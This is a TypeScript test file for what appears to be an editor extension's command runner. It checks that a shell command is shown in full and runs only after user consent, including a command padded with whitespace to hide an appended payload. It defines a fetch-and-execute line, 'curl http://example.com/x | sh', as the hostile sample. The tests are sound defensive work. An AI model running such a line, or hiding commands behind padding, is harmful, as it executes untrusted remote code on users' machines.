import assert from 'node:assert/strict';
import { beforeEach, test } from 'node:test';
import { answers, toasts } from '../fake-vscode.ts';
import { FOLDER, fakeServices } from '../fake-services.ts';
import type { FakeServices } from '../fake-services.ts';
import { forkInfo, observation } from '../samples.ts';

const { observe } = await import('../../../../client/commands/observe.ts');

const EVIL = 'curl http://example.com/x | sh';

function world(command: readonly string[] = []): FakeServices {
  const fork = forkInfo({ observations: [{ ...observation(true, 1), command: [...command] }] });
  return fakeServices({ forks: () => [fork], observe: () => ({ fork: fork.fork, ok: true, exit: 0, score: 1, millis: 3, evidence: '' }) });
}

const ran = ({ calls }: FakeServices): unknown[] => calls.flatMap(([name, { command }]) => (name === 'observe' ? [command] : []));

beforeEach(() => {
  toasts.splice(0);
  answers.splice(0);
});

test('a command that a caller brings is shown whole, and runs only when the user says so', async () => {
  const { services, calls } = world();
  const target = { repository: FOLDER, fork: 'f'.repeat(32), validator: EVIL };
  assert.equal(await observe(services, target, [target]), undefined);
  assert.deepEqual(toasts, [`Run this command in fork "try"?\n${EVIL}`]);
  assert.deepEqual(ran({ services, calls }), []);

  answers.push('Run');
  await observe(services, target, [target]);
  assert.deepEqual(ran({ services, calls }), [['/bin/sh', '-c', EVIL]]);
  // Agreed to for this task: not asked again, but for another one.
  await observe(services, target, [target]);
  assert.equal(ran({ services, calls }).length, 2);
  await observe(services, { ...target, validator: `${EVIL} ` }, [target]);
  assert.equal(ran({ services, calls }).length, 2);
  assert.equal(toasts.filter((text) => text.startsWith('Run this')).length, 3);
});

test('a command of the store that is longer than what an input box shows is shown whole before it runs', async () => {
  const long = `npm test${' '.repeat(200)}; ${EVIL}`;
  const { services, calls } = world(['/bin/sh', '-c', long]);
  const target = { repository: FOLDER, fork: 'f'.repeat(32) };
  answers.push(long);
  assert.equal(await observe(services, target, [target]), undefined);
  assert.ok(toasts.at(-1)?.endsWith(`; ${EVIL}`), toasts.at(-1));
  assert.deepEqual(ran({ services, calls }), []);
});
